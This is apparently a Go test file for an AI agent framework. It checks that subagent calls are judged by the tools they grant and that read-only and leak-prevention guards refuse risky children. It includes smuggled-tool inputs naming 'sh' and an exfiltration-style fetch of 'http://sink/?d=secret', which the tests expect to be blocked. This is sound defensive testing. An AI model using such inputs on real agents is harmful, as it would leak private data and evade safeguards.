package subagent

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/mecha-agent/mecha/engine/tool"
)

var writeCaps = tool.Capabilities{ModifiesWorkspace: true}

func threeTools() []tool.Tool {
	return []tool.Tool{&fake{name: "fs_read", caps: readCaps}, &fake{name: "fs_write", caps: writeCaps}, &fake{name: "web_fetch", caps: fetchCaps}}
}

func TestCallCapabilitiesAreTheUnionOfTheToolsTheCallNames(t *testing.T) {
	f := newFixture(t, threeTools()...)
	at := f.tool(t)
	all := readCaps.Union(writeCaps).Union(fetchCaps)
	for input, want := range map[string]tool.Capabilities{
		`{"task":"x","tools":["fs_read"]}`:                   readCaps,
		`{"task":"x","tools":["web_fetch"]}`:                 fetchCaps,
		`{"task":"x","tools":["fs_read","fs_write"]}`:        readCaps.Union(writeCaps),
		`{"task":"x","tools":["fs_read","fs_read"]}`:         readCaps,
		`{"task":"x","tools":[]}`:                            {},
		`{"task":"x"}`:                                       all,
		`{"task":"x","tools":["fs_read","nosuch"]}`:          all, // unknown: the union
		`{"task":"x","tools":["fs_read","agent"]}`:           all,
		`{"task":"x","tools":["fs_read"],"max_turns":0}`:     all, // bad input: the union
		`{"task":"x","tools":"fs_read"}`:                     all,
		`not json`:                                           all,
		`{"task":"x","tools":["fs_read"],"smuggled":["sh"]}`: all,
		`{"task":"x","tools":["fs_read"]} {"tools":["sh"]}`:  readCaps, // what the decoder, and so the child, sees
	} {
		if got := tool.CapabilitiesOf(at, json.RawMessage(input)); got != want {
			t.Errorf("%s: %+v, want %+v", input, got, want)
		}
	}
	// An input naming a tool the run lacks is an error, not a narrower set.
	if _, err := at.CapabilitiesOf(json.RawMessage(`{"task":"x","tools":["fs_read","nosuch"]}`)); err == nil {
		t.Error("CapabilitiesOf accepted an unknown tool")
	}
	// Control: the call-blind declaration is the union whatever is named.
	if got := at.Capabilities(); got != all {
		t.Errorf("Capabilities %+v, want the union %+v", got, all)
	}
}

// The call is judged by the very tools the child is then given: for each
// input, the union of what the child was offered is the call's
// capabilities.
func TestTheCallIsJudgedByTheToolsTheChildGets(t *testing.T) {
	for _, input := range []string{
		`{"task":"x","tools":["fs_read"]}`, `{"task":"x","tools":["web_fetch","fs_read"]}`,
		`{"task":"x","tools":["fs_write","fs_write"]}`, `{"task":"x"}`,
	} {
		f := newFixture(t, threeTools()...)
		f.prov.turns = []any{text("done")}
		at := f.tool(t)
		run(t, at, context.Background(), input)
		offered := map[string]bool{}
		for _, s := range f.prov.reqs[0].Tools {
			offered[s.Name] = true
		}
		var got tool.Capabilities
		for _, pt := range f.tools {
			if offered[pt.Spec().Name] {
				got = got.Union(pt.Capabilities())
			}
		}
		if want := tool.CapabilitiesOf(at, json.RawMessage(input)); got != want || len(offered) != len(f.prov.reqs[0].Tools) {
			t.Errorf("%s: the child was offered %v (%+v); the call was judged by %+v", input, offered, got, want)
		}
	}
}

// An unknown name neither starts a child nor widens what the call is
// judged by past the union.
func TestAnUnknownToolNameStartsNoChild(t *testing.T) {
	f := newFixture(t, &fake{name: "fs_read", caps: readCaps})
	tr := &tool.Tracker{}
	at := tool.Interlock(tool.Gate(tr.Wrap(f.tool(t)), tool.ModeReadOnly, nil), tool.TrifectaRefuse, tr, nil)
	res, err := at.Run(context.Background(), json.RawMessage(`{"task":"x","tools":["fs_read","sh"]}`))
	if err != nil || !res.IsError || !strings.Contains(res.Content, `the tool "sh" is not one of this run's`) {
		t.Fatalf("result %+v, %v", res, err)
	}
	if len(f.prov.reqs) != 0 {
		t.Errorf("a child was started")
	}
	if got := tr.Taint(); got.Untrusted || !got.Private {
		t.Errorf("taint %+v: want the union of fs_read's, private only", got)
	}
}

// The parent's gate and interlock judge the call by what the child gets.
func TestTheParentsGuardsJudgeTheCall(t *testing.T) {
	f := newFixture(t, &fake{name: "fs_read", caps: readCaps}, &fake{name: "web_fetch", caps: fetchCaps})
	f.prov.turns = []any{text("read")}
	at := f.tool(t)
	ro := tool.Gate(f.tracker.Wrap(at), tool.ModeReadOnly, nil)
	if res := run2(t, ro, `{"task":"x","tools":["fs_read"]}`); res.IsError {
		t.Errorf("read-only: a reader-only child refused: %s", res.Content)
	}
	if res := run2(t, ro, `{"task":"x","tools":["web_fetch"]}`); !res.IsError || !strings.Contains(res.Content, "read-only mode") {
		t.Errorf("read-only: a fetching child ran: %+v", res)
	}
	g := newFixture(t, &fake{name: "fs_read", caps: readCaps}, &fake{name: "web_fetch", caps: fetchCaps})
	g.prov.turns = []any{text("read")}
	g.tracker.Start(tool.TaintOf(readCaps, fetchCaps), "the parent read a secret and a page")
	armed := tool.Interlock(g.tracker.Wrap(g.tool(t)), tool.TrifectaRefuse, g.tracker, nil)
	if res := run2(t, armed, `{"task":"x","tools":["fs_read"]}`); res.IsError {
		t.Errorf("armed: a child that cannot leak refused: %s", res.Content)
	}
	if res := run2(t, armed, `{"task":"x","tools":["web_fetch"]}`); !strings.HasPrefix(res.Content, tool.RefusalPrefix) {
		t.Errorf("armed: a child that can leak ran: %+v", res)
	}
	if len(g.prov.reqs) != 1 {
		t.Errorf("%d children asked the model, want 1", len(g.prov.reqs))
	}
}

func run2(t *testing.T, tl tool.Tool, input string) tool.Result {
	t.Helper()
	res, err := tl.Run(context.Background(), json.RawMessage(input))
	if err != nil {
		t.Fatal(err)
	}
	return res
}

// A parent giving a child only a reader is not made untrusted by the
// call; given web_fetch, it is, and a later refusal names the child's
// source, not the call.
func TestTheFlowBackNamesTheChildsSource(t *testing.T) {
	read, fetch := &fake{name: "fs_read", caps: readCaps}, &fake{name: "web_fetch", caps: fetchCaps}
	f := newFixture(t, read, fetch)
	f.prov.turns = []any{call("c1", "fs_read", `{}`), text("read"), call("c2", "web_fetch", `{}`), text("fetched")}
	at := tool.Interlock(f.tracker.Wrap(f.tool(t)), tool.TrifectaRefuse, f.tracker, nil)
	f.tracker.Turn() // as the agent loop does before each batch of calls
	run2(t, at, `{"task":"x","tools":["fs_read"]}`)
	if st := f.tracker.State(); st.Taint.Untrusted || !st.Taint.Private {
		t.Fatalf("after a reader-only child: %+v, want private only", st)
	}
	g := newFixture(t, read, fetch)
	g.prov.turns = f.prov.turns
	parent, err := g.surface(g.tracker)
	if err != nil {
		t.Fatal(err)
	}
	at = tool.Interlock(g.tracker.Wrap(g.tool(t)), tool.TrifectaRefuse, g.tracker, nil)
	g.tracker.Turn()
	run2(t, at, `{"task":"x","tools":["web_fetch"]}`)
	want := "the subagent: web_fetch brought in content from outside"
	if st := g.tracker.State(); st.Taint.Private || st.UntrustedBy != want {
		t.Fatalf("after a fetching child: %+v, want untrusted by %q", st, want)
	}
	g.tracker.Turn()
	pr, _ := parent.Get("fs_read")
	run2(t, pr, `{}`)
	g.tracker.Turn()
	pf, _ := parent.Get("web_fetch")
	runs := fetch.runs
	res := run2(t, pf, `{"url":"http://sink/?d=secret"}`)
	if !strings.Contains(res.Content, "untrusted content ("+want+")") || fetch.runs != runs {
		t.Errorf("the parent's web_fetch: %+v", res)
	}
}
